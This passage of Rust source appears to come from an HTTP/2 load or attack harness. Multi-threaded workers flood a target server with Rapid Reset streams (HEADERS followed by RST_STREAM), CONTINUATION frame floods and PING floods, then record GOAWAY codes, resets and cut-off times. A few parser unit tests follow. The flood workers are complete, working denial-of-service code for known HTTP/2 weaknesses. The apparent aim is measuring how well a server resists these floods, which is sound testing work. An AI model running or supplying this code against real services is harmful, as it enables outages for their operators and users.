                r.bytes += n as u64;
                if r.frames.feed(&chunk[..n]) {
                    r.goaway_at = Some(Instant::now());
                    flags.done.store(true, Ordering::Relaxed);
                }
            }
            Err(e) if matches!(e.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {
                if flags.local.load(Ordering::Relaxed) {
                    break;
                }
            }
            Err(e) if e.kind() == ErrorKind::Interrupted => {}
            Err(_) => {
                r.end = if flags.local.load(Ordering::Relaxed) {
                    "local"
                } else {
                    "reset"
                };
                break;
            }
        }
    }
    r.end_at = Instant::now();
    flags.done.store(true, Ordering::Relaxed);
    r
}

/// Writes all of `buf`, a slice at a time, unless the time is up or `done` is set first
/// (Ok(false)). Counts the time spent waiting on a full socket.
fn write_bounded(
    s: &mut TcpStream,
    buf: &[u8],
    deadline: Instant,
    done: &AtomicBool,
    stall: &mut Duration,
) -> std::io::Result<bool> {
    let mut off = 0;
    while off < buf.len() {
        if stopped() || Instant::now() >= deadline || done.load(Ordering::Relaxed) {
            return Ok(false);
        }
        let t = Instant::now();
        match s.write(&buf[off..]) {
            Ok(0) => return Err(ErrorKind::WriteZero.into()),
            Ok(n) => off += n,
            Err(e) if matches!(e.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {
                *stall += t.elapsed();
            }
            Err(e) if e.kind() == ErrorKind::Interrupted => {}
            Err(e) => return Err(e),
        }
    }
    Ok(true)
}

#[derive(Default)]
struct H2Agg {
    connections: u64,
    connect_errors: u64,
    first_error: String,
    sent: u64,
    bytes_sent: u64,
    stall: Duration,
    ended: BTreeMap<&'static str, u64>,
    goaway_codes: BTreeMap<String, u64>,
    first_goaway: Option<(Duration, Duration, GoAway)>,
    cut_after: Vec<f64>,
    cut_at: Vec<f64>,
    sent_before_cut: Vec<f64>,
    recv: [u64; 10],
    recv_other: u64,
    recv_bytes: u64,
}

static ESTABLISHED: AtomicU64 = AtomicU64::new(0);

/// One attacker thread: connection after connection until the time is up.
fn h2_worker(addr: SocketAddr, kind: H2Kind, t0: Instant, deadline: Instant, agg: &Mutex<H2Agg>) {
    let fields = flood_fields();
    let mut first = true;
    let mut ping_n: u64 = 0;
    while !stopped() && Instant::now() + Duration::from_millis(20) < deadline {
        let since = Instant::now();
        let (mut s, rest) = match h2_connect(addr, deadline) {
            Ok(x) => x,
            Err(e) => {
                let mut g = agg.lock().unwrap();
                g.connect_errors += 1;
                if g.first_error.is_empty() {
                    g.first_error = e;
                }
                drop(g);
                std::thread::sleep(Duration::from_millis(20));
                continue;
            }
        };
        if first {
            first = false;
            ESTABLISHED.fetch_add(1, Ordering::Relaxed);
        }
        let _ = s.set_write_timeout(Some(WRITE_SLICE));
        let flags = Arc::new(ConnFlags::default());
        let mut rest = Some(rest);
        let read_thread = if kind == H2Kind::Ping {
            None
        } else {
            match s.try_clone() {
                Ok(rs) => {
                    let f = flags.clone();
                    let first_bytes = rest.take().unwrap_or_default();
                    std::thread::Builder::new()
                        .stack_size(128 * 1024)
                        .spawn(move || reader(rs, first_bytes, f))
                        .ok()
                }
                Err(_) => None,
            }
        };
        let (mut sent, mut bytes) = (0u64, 0u64);
        let mut stall = Duration::ZERO;
        let mut write_err: Option<std::io::Error> = None;
        let mut out = Vec::with_capacity(80 * 1024);
        frame(&mut out, FRAME_SETTINGS, FLAG_ACK, 0, &[]);
        let mut sid: u32 = 1;
        if kind == H2Kind::Continuation {
            frame(&mut out, FRAME_HEADERS, FLAG_END_STREAM, 1, GET_BLOCK);
        }
        loop {
            // Fill one batch after what is already in `out`.
            let n = match kind {
                H2Kind::RapidReset => {
                    if sid > 0x7fff_0000 {
                        break; // stream ids used up: a new connection
                    }
                    for _ in 0..64 {
                        frame(
                            &mut out,
                            FRAME_HEADERS,
                            FLAG_END_STREAM | FLAG_END_HEADERS,
                            sid,
                            GET_BLOCK,
                        );
                        frame(&mut out, FRAME_RST_STREAM, 0, sid, &CANCEL.to_be_bytes());
                        sid += 2;
                    }
                    64
                }
                H2Kind::Continuation => {
                    for _ in 0..4 {
                        frame(&mut out, FRAME_CONTINUATION, 0, 1, &fields);
                    }
                    4
                }
                H2Kind::Ping => {
                    for _ in 0..256 {
                        ping_n += 1;
                        frame(&mut out, FRAME_PING, 0, 0, &ping_n.to_be_bytes());
                    }
                    256
                }
            };
            match write_bounded(&mut s, &out, deadline, &flags.done, &mut stall) {
                Ok(true) => {
                    sent += n;
                    bytes += out.len() as u64;
                    out.clear();
                }
                Ok(false) => break,
                Err(e) => {
                    write_err = Some(e);
                    break;
                }
            }
        }
        let stopped_at = Instant::now();
        let server_ended = write_err.is_some() || flags.done.load(Ordering::Relaxed);
        // What the server sent: the reader's account, or (PING: nothing was read while
        // flooding) a bounded drain now.
        let read = match read_thread {
            Some(h) => {
                if server_ended {
                    // Let the reader see the end the server chose (EOF / reset) first.
                    let until = Instant::now() + Duration::from_millis(500);
                    while !h.is_finished() && Instant::now() < until {
                        std::thread::sleep(Duration::from_millis(5));
                    }
                }
                flags.local.store(true, Ordering::Relaxed);
                let _ = s.shutdown(Shutdown::Both);
                h.join().ok()
            }
            None => Some(drain(&mut s, rest.take().unwrap_or_default(), &flags)),
        };
        let _ = s.shutdown(Shutdown::Both);
        let mut g = agg.lock().unwrap();
        g.connections += 1;
        g.sent += sent;
        g.bytes_sent += bytes;
        g.stall += stall;
        let mut how: &'static str = "deadline";
        let mut cut: Option<Instant> = None;
        if let Some(r) = &read {
            for (a, b) in g.recv.iter_mut().zip(r.frames.counts.iter()) {
                *a += b;
            }
            g.recv_other += r.frames.other;
            g.recv_bytes += r.bytes;
            if let Some(ga) = &r.frames.goaway {
                how = "goaway";
                let at = r.goaway_at.unwrap_or(stopped_at);
                cut = Some(at);
                *g.goaway_codes.entry(code_name(ga.code)).or_insert(0) += 1;
                if g.first_goaway.as_ref().is_none_or(|(t, _, _)| at - t0 < *t) {
                    g.first_goaway = Some((at - t0, at - since, ga.clone()));
                }
            } else if r.end == "server_close" || r.end == "reset" {
                how = r.end;
                cut = Some(r.end_at.min(stopped_at));
            }
        }
        if how == "deadline" {
            if let Some(e) = &write_err {
                how = if is_reset(e) { "reset" } else { "write_error" };
                cut = Some(stopped_at);
                if g.first_error.is_empty() {
                    g.first_error = format!("write: {e}");
                }
            } else if sid > 0x7fff_0000 {
                how = "stream_ids_used_up";
            }
        }
        *g.ended.entry(how).or_insert(0) += 1;
        if let Some(at) = cut {
            g.cut_after.push(ms_f(at - since));
            g.cut_at.push(ms_f(at - t0));
            g.sent_before_cut.push(sent as f64);
        }
    }
}

/// PING mode: after the flood, what had the server sent? Reads for at most 1 s / 64 MiB.
fn drain(s: &mut TcpStream, first: Vec<u8>, flags: &ConnFlags) -> ReadEnd {
    let mut r = ReadEnd {
        frames: FrameReader::default(),
        bytes: first.len() as u64,
        goaway_at: None,
        end: "local",
        end_at: Instant::now(),
    };
    r.frames.feed(&first);
    let _ = s.set_read_timeout(Some(Duration::from_millis(100)));
    let until = Instant::now() + Duration::from_secs(1);
    let mut chunk = vec![0u8; 256 * 1024];
    while Instant::now() < until && r.bytes < 64 << 20 {
        match s.read(&mut chunk) {
            Ok(0) => {
                r.end = "server_close";
                break;
            }
            Ok(n) => {
                r.bytes += n as u64;
                if r.frames.feed(&chunk[..n]) {
                    // Sent some time before: all we know is that it came before the end.
                    r.goaway_at = Some(Instant::now());
                }
            }
            Err(e) if matches!(e.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => break,
            Err(e) if e.kind() == ErrorKind::Interrupted => {}
            Err(_) => {
                r.end = "reset";
                break;
            }
        }
    }
    r.end_at = Instant::now();
    flags.done.store(true, Ordering::Relaxed);
    r
}

fn h2(a: &Args, kind: H2Kind) -> String {
    let t0 = Instant::now();
    let deadline = t0 + Duration::from_secs_f64(a.secs);
    let agg = Arc::new(Mutex::new(H2Agg::default()));
    let mut handles = Vec::new();
    let mut spawn_errors = 0u64;
    for _ in 0..a.conns {
        let agg = agg.clone();
        let addr = a.addr;
        match std::thread::Builder::new()
            .stack_size(256 * 1024)
            .spawn(move || h2_worker(addr, kind, t0, deadline, &agg))
        {
            Ok(h) => handles.push(h),
            Err(_) => spawn_errors += 1,
        }
    }
    // Ready: every thread has had its first connection, or 5 s passed.
    let ready_by = (t0 + Duration::from_secs(5)).min(deadline);
    while ESTABLISHED.load(Ordering::Relaxed) < handles.len() as u64 && Instant::now() < ready_by {
        std::thread::sleep(Duration::from_millis(5));
    }
    eprintln!(
        "attack: ready {} connected={} of {} in {:.1} ms",
        a.mode,
        ESTABLISHED.load(Ordering::Relaxed),
        handles.len(),
        ms_f(t0.elapsed())
    );
    for h in handles {
        let _ = h.join();
    }
    let mut g = agg.lock().unwrap();
    let elapsed = t0.elapsed().as_secs_f64();
    let unit = match kind {
        H2Kind::RapidReset => "streams (HEADERS + RST_STREAM)",
        H2Kind::Continuation => "CONTINUATION frames (16 KiB)",
        H2Kind::Ping => "PING frames",
    };
    let mut recv: BTreeMap<&str, u64> = BTreeMap::new();
    for (name, n) in FRAME_NAMES.iter().zip(g.recv.iter()) {
        if *n > 0 {
            recv.insert(*name, *n);
        }
    }
    if g.recv_other > 0 {
        recv.insert("other", g.recv_other);
    }
    let first_goaway = match &g.first_goaway {
        Some((at, after, ga)) => Obj::new()
            .ms("at_ms", *at)
            .ms("after_ms", *after)
            .str("code", &code_name(ga.code))
            .raw("last_stream_id", ga.last_stream)
            .str("debug", &ga.debug)
            .to_string(),
        None => "null".into(),
    };
    let (sent, bytes) = (g.sent, g.bytes_sent);
    base(a, t0)
        .raw("connections", g.connections)
        .raw("connect_errors", g.connect_errors)
        .raw("thread_spawn_errors", spawn_errors)
        .str("first_error", &g.first_error)
        .raw("sent", sent)
        .str("sent_unit", unit)
        .raw(
            "sent_per_s",
            format!("{:.1}", sent as f64 / elapsed.max(1e-9)),
        )
        .raw("bytes_sent", bytes)
        .ms("write_stall_ms", g.stall)
        .raw("ended", counts_json(&g.ended))
        .raw("goaway_codes", counts_json(&g.goaway_codes))
        .raw("first_goaway", first_goaway)
        .raw("cut_off_after_ms", spread(&mut g.cut_after))
        .raw("cut_off_at_ms", spread(&mut g.cut_at))
        .raw("sent_before_cut_off", spread(&mut g.sent_before_cut))
        .raw("recv_frames", counts_json(&recv))
        .raw("recv_bytes", g.recv_bytes)
        .to_string()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hpack_integers() {
        let mut v = Vec::new();
        hpack_int(&mut v, 7, 0, 1000);
        assert_eq!(v, [0x7f, 0xe9, 0x06]); // 1000 - 127 = 873 = 0x69 + 6 * 128
        v.clear();
        hpack_int(&mut v, 5, 0, 10);
        assert_eq!(v, [10]);
        assert!(flood_fields().len() <= 16_384);
        assert_eq!(flood_fields().len() % 1012, 0);
    }

    #[test]
    fn frames_are_read_across_chunks() {
        let mut out = Vec::new();
        frame(&mut out, FRAME_SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]);
        let mut ga = vec![0, 0, 0, 7, 0, 0, 0, 11];
        ga.extend_from_slice(b"calm");
        frame(&mut out, FRAME_GOAWAY, 0, 0, &ga);
        let mut r = FrameReader::default();
        let mut got = false;
        for b in out.chunks(5) {
            got |= r.feed(b);
        }
        assert!(got);
        let g = r.goaway.unwrap();
        assert_eq!((g.code, g.last_stream, g.debug.as_str()), (11, 7, "calm"));
        assert_eq!(r.counts[FRAME_SETTINGS as usize], 1);
    }

    #[test]
    fn heads() {
        let (_, status, line) = head_status(b"HTTP/1.0 200 OK\r\nServer: x\r\n\r\nbody");
        assert_eq!((status, line.as_str()), (200, "HTTP/1.0 200 OK"));
        assert_eq!(head_status(b"garbage").1, 0);
    }

    #[test]
    fn responses() {
        let r = b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhelloHTTP/1.1 408";
        assert_eq!(parse_response(r).map(|x| (x.0, x.1)), Some((43, 200)));
        assert_eq!(
            parse_response(b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhel"),
            None
        );
    }
}
